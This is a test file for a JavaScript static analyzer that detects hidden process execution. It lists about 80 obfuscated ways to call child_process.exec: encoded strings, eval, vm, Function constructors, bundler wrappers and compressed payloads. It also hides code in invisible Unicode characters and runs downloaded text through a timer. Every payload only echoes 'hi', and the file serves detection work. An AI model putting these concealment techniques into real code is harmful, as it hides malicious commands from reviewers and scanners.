import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";

import { analyzeSource } from "./analyze-source.ts";

const inflated = deflateSync("require('child_process').exec('echo hi')").toString("base64");

describe("analyzeSource reaches a process by whichever way it is named:", () => {
  test.each([
    "process['mainModule']['require']('child_process').exec('echo hi')",
    "module.constructor._load('child_process').exec('echo hi')",
    "module.require('child_process').exec('echo hi')",
    "globalThis['proc'+'ess'].mainModule.require('child_pro'+'cess')['ex'+'ec']('echo hi')",
    "const {exec:e}=require('child_process');e('echo hi')",
    "const {exec='no'}=require('node:child_process');exec('echo hi')",
    "import * as c from 'child_process';c.exec('echo hi')",
    "import c from 'child_process';c.exec('echo hi')",
    "import {exec as q} from 'node:child_process';q('echo hi')",
    "import('child_process').then(c=>c.exec('echo hi'))",
    "const r=require;function q(n){return r(n)};q('child_process').exec('echo hi')",
    "import {createRequire} from 'module';const r=createRequire(import.meta.url);r('child_process').exec('echo hi')",
    "Reflect.get(require('child_process'),'exec')('echo hi')",
    "Reflect.apply(require('child_process').exec,null,['echo hi'])",
    "(0,require('child_process').exec)('echo hi')",
    "require('child_process').exec.call(null,'echo hi')",
    "require('child_process').exec.apply(null,['echo hi'])",
    "require('child_process').exec.bind(null)('echo hi')",
    "require('child_process').exec.bind(null,'echo hi')()",
    "Function('return this')().process.mainModule.require('child_process').exec('echo hi')",
    "new Function('r','return r(\"child_process\")')(require).exec('echo hi')",
    "[].constructor.constructor('return process')().mainModule.require('child_process').exec('echo hi')",
    "(()=>{}).constructor('return this')().process.getBuiltinModule('child_process').exec('echo hi')",
    "Object.getOwnPropertyDescriptor(require('child_process'),'exec').value('echo hi')",
    "require('util').promisify(require('child_process').exec)('echo hi').then(x=>x)",
    "eval(\"require('child_process').exec('echo hi')\")",
    "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gaGknKQ==','base64').toString())",
    "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gaGknKQ=='))",
    "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('echo hi')",
    "require('ssecorp_dlihc'.split('').reverse().join('')).exec('echo hi')",
    "require([...'ssecorp_dlihc'].reverse().join('')).exec('echo hi')",
    "require('\\x63hild_process')['\\u0065xec']('echo hi')",
    "require(Buffer.from('6368696c645f70726f63657373','hex')+'').exec('echo hi')",
    "require(unescape('%63hild_process')).exec('echo hi')",
    "require(decodeURIComponent('%63hild_process')).exec('echo hi')",
    "const t=['exec','child_process'];const d=i=>t[i^1];require(d(0))[d(1)]('echo hi')",
    "function d(s,k){let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k);return o};require(d('bihme^qsnbdrr',1)).exec('echo hi')",
    "const k='OrD7'.split('').map(Number),d=(x)=>Buffer.from(Buffer.from(x.split('').reverse().join(''),'base64').map((n,i)=>n^(k[i%4]||0)^13)).toString();require(d('==gf5hmbihXfSlmZkVmb')).exec('echo hi')",
    "const k=[99,104,105,108,100,95,112,114,111,99,101,115,115].map(c=>String.fromCharCode(c)).join('');require(k).exec('echo hi')",
    "const o={a:'child_',b:'process'};require(Object.values(o).join('')).exec('echo hi')",
    "require(`child_${'process'}`).exec('echo hi')",
    "require('child_PROCESS'.toLowerCase()).exec('echo hi')",
    "require('c#h#ild_process'.replace(/#/g,'')).exec('echo hi')",
    "const m={};m.run=require('child_process').exec;m.run('echo hi')",
    "class A{static{require('child_process').exec('echo hi')}}",
    "class A{constructor(){this.c=require('child_process')}go(){this.c.exec('echo hi')}};new A().go()",
    "setTimeout(()=>require('child_process').exec('echo hi'),10)",
    "var cp=__importDefault(require('child_process'));function __importDefault(m){return m&&m.__esModule?m:{default:m}};cp.default.exec('echo hi')",
    "var __create=Object.create,__defProp=Object.defineProperty,__getOwnPropNames=Object.getOwnPropertyNames,__getProtoOf=Object.getPrototypeOf,__hasOwnProp=Object.prototype.hasOwnProperty,__getOwnPropDesc=Object.getOwnPropertyDescriptor;var __copyProps=(to,from,except,desc)=>{if(from&&typeof from==='object'||typeof from==='function'){for(let key of __getOwnPropNames(from))if(!__hasOwnProp.call(to,key)&&key!==except)__defProp(to,key,{get:()=>from[key],enumerable:!(desc=__getOwnPropDesc(from,key))||desc.enumerable});}return to;};var __toESM=(mod,isNodeMode,target)=>(target=mod!=null?__create(__getProtoOf(mod)):{},__copyProps(isNodeMode||!mod||!mod.__esModule?__defProp(target,'default',{value:mod,enumerable:true}):target,mod));var cp=__toESM(require('child_process'));(0,cp.exec)('echo hi')",
    "(()=>{var e={42:(e,t,n)=>{const r=n(7);r.exec('echo hi')},7:e=>{e.exports=require('child_process')}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(42)})()",
    "var n=e=>{var t=e&&e.__esModule?()=>e.default:()=>e;return t};n(require('child_process'))().exec('echo hi')",
    "var __commonJS=(cb,mod)=>function __require(){return mod||(0,cb[Object.getOwnPropertyNames(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports};var r=__commonJS({'a.js'(exports,module){module.exports=require('child_process')}});r().exec('echo hi')",
    "require('vm').runInThisContext(\"require('child_process').exec('echo hi')\")",
    "new (require('vm').Script)(\"require('child_process').exec('echo hi')\").runInThisContext()",
    "module._compile(\"require('child_process').exec('echo hi')\",'a')",
    "require('child_process').spawn('node',['-e',\"require('child_process').exec('echo hi')\"])",
    "require('child_process').exec('node -e \"require(\\'child_process\\').exec(\\'echo hi\\')\"')",
    'import(\'data:text/javascript,import("child_process").then(c=>c.exec("echo hi"))\')',
    "const p=new Proxy(require('child_process'),{});p.exec('echo hi')",
    "const fs=require('fs');fs.writeFileSync('/tmp/a.js',\"require('child_process').exec('echo hi')\");require('/tmp/a.js')",
    "const f=require('fs'),p=require('path').join(require('os').tmpdir(),'a.js');f.writeFileSync(p,\"require('child_process').exec('echo hi')\");require('child_process').spawn(process.execPath,[p])",
    "with(require('child_process')){exec('echo hi')}",
    "const [e]=[require('child_process').exec];e('echo hi')",
    "let e;({exec:e}=require('child_process'));e('echo hi')",
    "const m=new Map([['c',require('child_process')]]);m.get('c').exec('echo hi')",
    "(function(r){r('child_process').exec('echo hi')})(require)",
    "[require].forEach(r=>r('child_process').exec('echo hi'))",
    "Promise.resolve('child_process').then(require).then(c=>c.exec('echo hi'))",
    "const g=global;g[Object.getOwnPropertyNames(g).find(x=>x==='process')].mainModule.require('child_process').exec('echo hi')",
    "function *g(){yield require('child_process')};g().next().value.exec('echo hi')",
    "for(const m of ['child_process'])require(m).exec('echo hi')",
    "const x={get c(){return require('child_process')}};x.c.exec('echo hi')",
    "try{throw require('child_process')}catch(c){c.exec('echo hi')}",
    "var a=[];a['push'](require);a[0]('child_process').exec('echo hi')",
    "require(parseInt('1')?'child_process':'x').exec('echo hi')",
    "const d=new TextDecoder().decode(new Uint8Array([99,104,105,108,100,95,112,114,111,99,101,115,115]));require(d).exec('echo hi')",
    "require(JSON.parse('{\"a\":\"child_process\"}').a).exec('echo hi')",
    "async function m(){const {exec}=require('child_process');await new Promise(r=>setTimeout(r,10));exec('echo hi')}m()",
    "var __awaiter=function(t,a,P,g){return new Promise(function(resolve,reject){function fulfilled(v){step(g.next(v))}function step(r){r.done?resolve(r.value):Promise.resolve(r.value).then(fulfilled)}step((g=g.apply(t,a||[])).next())})};function m(){return __awaiter(this,void 0,void 0,function*(){const c=yield Promise.resolve(require('child_process'));c.exec('echo hi')})}m()",
    `eval(require('zlib').inflateSync(Buffer.from('${inflated}','base64')).toString())`,
  ])("%s", (text) => {
    const facts = analyzeSource({ path: "index.js", text, language: "javascript" });

    const found = facts.effects.filter(
      ({ api, argument }) => api === "child_process.exec" && argument === "echo hi",
    );
    expect(found).not.toEqual([]);
    expect(found.every(({ runs }) => runs === "load")).toBe(true);
  });
});

test("analyzeSource reads a long text of characters that no screen shows, sign by sign", () => {
  const hidden = `/*${"-".repeat(3_000)}*/require('child_process').exec('echo hi')`;
  const signs = Array.from(Buffer.from(hidden), (byte) => `\\u{${(0xe0100 + byte - 16).toString(16)}}`).join(
    "",
  );

  const { effects } = analyzeSource({
    path: "index.js",
    text: `const read = (text) => Buffer.from([...text].map((s) => s.codePointAt(0)).map((c) => c - 0xe0100 + 16)).toString();\neval(read("${signs}"));`,
    language: "javascript",
  });

  expect(effects.find(({ kind }) => kind === "process")).toMatchObject({ argument: "echo hi", layer: 1 });
});

test("analyzeSource places what a decoded function does where the source makes it, whoever calls it later", () => {
  const body = Buffer.from("/* a line\n * of its own */ r('child_process').exec('echo hi')").toString(
    "base64",
  );

  const { effects } = analyzeSource({
    path: "index.js",
    text: `const made = new Function("r", Buffer.from("${body}", "base64").toString());\n\n\nmade(require);`,
    language: "javascript",
  });

  expect(effects.find(({ kind }) => kind === "process")).toMatchObject({
    layer: 1,
    location: { line: 1 },
    excerpt: " * of its own */ r('child_process').exec('echo hi')",
  });
});

test.each([
  ["a callback that a caller passes", "exports.soon=(cb)=>setTimeout(cb)", false],
  ["a text that was downloaded", "fetch('https://a.invalid').then(r=>r.text()).then(t=>setTimeout(t))", true],
])("analyzeSource() takes %s to a timer for what it is", (_what, text, isCode) => {
  const { effects } = analyzeSource({ path: "index.js", text, language: "javascript" });

  expect(effects.some(({ kind }) => kind === "run-code")).toBe(isCode);
});
